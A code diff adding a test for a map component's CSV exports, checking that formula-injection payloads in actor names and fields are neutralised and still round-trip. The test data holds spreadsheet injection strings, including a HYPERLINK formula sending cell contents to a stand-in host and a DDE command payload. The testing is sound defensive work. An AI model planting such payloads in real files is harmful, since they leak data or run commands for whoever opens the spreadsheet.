@@ -80,4 +80,46 @@ describe('<ess-map> exports', () => {
     const lines = summary.text.trim().split(/\r\n/);
     expect(lines.at(-1)).to.equal(`Total;;${visible.length}`);
   });
+
+  it('writes no cell a spreadsheet would run as a formula, and the codes file reads back to the same names (#17)', async () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1;"Voir")', '@SUM(1+1)', '+33 4 75 00 00 00', '-2+3', "'=deja"];
+    const actors = hostile.map((name, i) => ({ id: `h${i}`, name, type: 'association', description: `=cmd|' /C calc'!A${i}`, address: { city: 'Die' }, location: { lat: 44.75, lon: 5.37, precision: 'exact' }, provenance: { source: '@source' } }));
+    actors.push({ id: 'bad', name: 'Rejeté', type: '=1+1', description: '', address: { city: 'Die' }, location: { lat: 44.75, lon: 5.37, precision: 'exact' }, provenance: { source: 'x' } });
+    const el = await fixture<EssMap>(html`<ess-map .actors=${actors}></ess-map>`);
+    await settle(el);
+    // a cell as the spreadsheet sees it: the ;-separated field without its CSV quotes
+    const cells = (text: string) =>
+      text
+        .split(/\r\n/)
+        .flatMap((line) => line.match(/("([^"]|"")*"|[^;]*)(;|$)/g) ?? [])
+        .map((c) => c.replace(/;$/, ''))
+        .map((c) => (c.startsWith('"') ? c.slice(1, -1).replace(/""/g, '"') : c));
+    const live = (text: string) => cells(text).filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?[\d.,]+$/.test(c));
+    for (const label of ['Acteurs affichés (CSV)', 'Acteurs affichés (CSV, codes à réimporter)']) {
+      const file = await exported(el, label);
+      expect(live(file.text), label).to.deep.equal([]);
+      expect(file.text, label).to.include("'=HYPERLINK");
+    }
+    const codes = parseCsvText((await exported(el, 'Acteurs affichés (CSV, codes à réimporter)')).text);
+    const back = parseActors(codes.rows.map((row, index) => actorFromRow(row, { index })));
+    expect(back.actors.map((a) => a.name)).to.have.members(hostile);
+    expect(back.actors.map((a) => a.description)).to.include("=cmd|' /C calc'!A0");
+    const problems = Array.from(shadow(el).querySelectorAll<HTMLButtonElement>('button')).find((b) => /problèmes \(CSV\)/.test(b.textContent!));
+    expect(problems, 'the rejected-records download').to.not.equal(undefined);
+    const files: Blob[] = [];
+    const create = URL.createObjectURL;
+    const click = HTMLAnchorElement.prototype.click;
+    URL.createObjectURL = (b: Blob | MediaSource) => (files.push(b as Blob), create.call(URL, b));
+    HTMLAnchorElement.prototype.click = () => undefined;
+    try {
+      problems!.click();
+      await waitUntil(() => files.length > 0, 'the problems file is offered');
+    } finally {
+      URL.createObjectURL = create;
+      HTMLAnchorElement.prototype.click = click;
+    }
+    const issues = (await files[0]!.text()).replace(/^\ufeff/, '');
+    expect(issues).to.include("'=1+1");
+    expect(live(issues)).to.deep.equal([]);
+  });
 });
